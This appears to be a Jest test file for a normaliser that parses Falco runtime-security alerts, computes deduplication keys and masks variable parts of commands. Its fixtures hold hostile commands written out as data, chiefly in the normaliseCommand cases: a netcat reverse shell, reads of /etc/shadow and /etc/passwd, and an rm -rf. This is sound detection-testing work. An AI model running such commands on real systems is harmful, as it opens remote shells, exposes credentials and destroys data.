import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { normaliseAlert, normaliseCommand } from '.';
import { fc } from '../../__testUtils__/fc';

const receivedAt = '2026-09-01T10:15:11.000Z';

function readFixture(name: string) {
  return readFileSync(join(__dirname, '../__fixtures__', name), 'utf8').trim();
}

function normalise(payload: string) {
  return normaliseAlert('c1', payload, receivedAt);
}

describe('normaliseAlert', () => {
  it("reads Falco's own alert", () => {
    const { fields, foldKey, ...alert } = normalise(
      readFixture('falco-terminal-shell.json'),
    );
    expect(alert).toEqual({
      kind: 'alert',
      cluster: 'c1',
      rule: 'Terminal shell in container',
      priority: 'Notice',
      source: 'syscall',
      tags: [
        'T1059',
        'container',
        'maturity_stable',
        'mitre_execution',
        'shell',
      ],
      hostname: 'worker-1',
      namespace: 'shop',
      pod: 'web-7bf5-2cmmq',
      container: 'web',
      containerId: 'ac0705e08932',
      image: 'registry.example/web:1.4',
      command: 'bash',
      output: expect.stringContaining('A shell was spawned'),
      time: '2026-09-01T10:15:03.434Z',
    });
    expect(fields['user.loginuid']).toBe(-1);
  });

  it("reads falcosidekick's, in which unknown values are null, NA or absent", () => {
    const alert = normalise(readFixture('sidekick-read-sensitive-file.json'));
    expect(alert).toMatchObject({
      source: 'syscall',
      pod: 'vuln-spring-75477-x',
      command: 'cat /etc/shadow',
      fields: { 'proc.aname[2]': 'java', cluster: 'cluster1' },
    });
    expect(alert.fields).not.toHaveProperty('user.name');
    expect(alert.fields).not.toHaveProperty(['proc.aname[3]']);
  });

  it.each([
    ['sidekick-test.json', { kind: 'test', priority: 'Debug' }],
    ['falco-internal-drop.json', { kind: 'internal' }],
    ['falco-host-level.json', { pod: undefined, containerId: undefined }],
    [
      'falco-late-metadata.json',
      { pod: undefined, containerId: '69d22f20d812', container: undefined },
    ],
    [
      'falco-k8s-audit.json',
      { pod: 'web-1', namespace: 'shop', source: 'k8s_audit' },
    ],
    ['falco-plugin-github.json', { pod: undefined, source: 'github' }],
  ])('reads %s', (name, expected) => {
    expect(normalise(readFixture(name))).toMatchObject(expected);
  });

  it('knows the same thing again, with and without late metadata', () => {
    const base = JSON.parse(readFixture('sidekick-read-sensitive-file.json'));
    const keyOf = (change: object, fields: object = {}) =>
      normalise(
        JSON.stringify({
          ...base,
          ...change,
          output_fields: { ...base.output_fields, ...fields },
        }),
      ).foldKey;
    const key = keyOf({});
    expect(keyOf({ uuid: 'other', time: '2026-09-01T10:15:09Z' })).toBe(key);
    expect(keyOf({ source: 'syscall' })).toBe(key);
    expect(keyOf({}, { 'k8s.pod.name': null, 'k8s.ns.name': '<NA>' })).toBe(
      key,
    );
    expect(keyOf({}, { 'container.id': '9dc5e707f717'.padEnd(64, 'a') })).toBe(
      key,
    );
    expect(keyOf({}, { 'proc.cmdline': 'cat /etc/passwd' })).not.toBe(key);
    expect(keyOf({}, { 'container.id': 'aaaaaaaaaaaa' })).not.toBe(key);
    expect(keyOf({ rule: 'Other' })).not.toBe(key);
  });

  it.each([
    ['2026-09-01T10:15:03.434319636Z', '2026-09-01T10:15:03.434Z'],
    ['2026-09-01T12:15:03+02:00', '2026-09-01T10:15:03.000Z'],
    ['2999-01-01T00:00:00Z', receivedAt],
    ['-271821-04-20T00:00:00Z', receivedAt],
  ])('takes the time %s as %s', (time, expected) => {
    const payload = JSON.stringify({ rule: 'r', priority: 'Error', time });
    expect(normalise(payload).time).toBe(expected);
  });

  it('never fails, and bounds whatever comes', () => {
    const hostile = fc.record({
      rule: fc.string({ minLength: 1, maxLength: 2000, unit: 'binary' }),
      priority: fc.constantFrom('info', 'CRITICAL', 'Debug'),
      time: fc.constant('2026-09-01T10:15:03Z'),
      source: fc.jsonValue(),
      hostname: fc.jsonValue(),
      output: fc.jsonValue(),
      tags: fc.jsonValue(),
      output_fields: fc.option(
        fc.dictionary(
          fc.oneof(
            fc.constantFrom(
              'proc.cmdline',
              'k8s.pod.name',
              'container.id',
              '__proto__',
            ),
            fc.string(),
          ),
          fc.oneof(fc.jsonValue(), fc.string({ unit: 'binary' })),
        ),
      ),
    });
    fc.assert(
      fc.property(hostile, raw => {
        const alert = normalise(JSON.stringify(raw));
        const text = JSON.stringify(alert);
        expect(text).not.toContain('\\u0000');
        expect(alert.rule.length).toBeLessThanOrEqual(512);
        expect(alert.foldKey).toMatch(/^[0-9a-f]{64}$/);
      }),
    );
  });

  it('takes what is no text for nothing', () => {
    const odd = { toString: '' };
    const raw = { rule: odd, priority: odd, time: odd, output: odd };
    expect(normalise(JSON.stringify(raw))).toMatchObject({
      rule: '',
      priority: 'Debug',
      time: receivedAt,
      output: '',
    });
  });

  it('survives lists in lists without end, which would stop the work on all alerts', () => {
    const depth = 30_000;
    const { fields } = normalise(
      `{"rule":"x","output_fields":{"flat":[1,[2]],"deep":${'['.repeat(
        depth,
      )}${']'.repeat(depth)}}}`,
    );
    expect(fields.flat).toEqual([1, 2]);
    expect(JSON.stringify(fields).length).toBeLessThan(200);
  });
});

describe('normaliseCommand', () => {
  it.each([
    ['nc -e /bin/sh 10.0.0.1 4444', 'nc -e /bin/sh #.#.#.# #'],
    ['/tmp/.x-7f3a9b2c1   -q', '/tmp/.x-# -q'],
    ['sh -c  deadbeefcafe01', 'sh -c #'],
    ['rm -rf /var/lib/decade', 'rm -rf /var/lib/decade'],
    ['kill 0f8fad5b-d9cb-469f-a165-70867728950e', 'kill #'],
  ])('%s becomes %s', (command, expected) => {
    expect(normaliseCommand(command)).toBe(expected);
  });
});
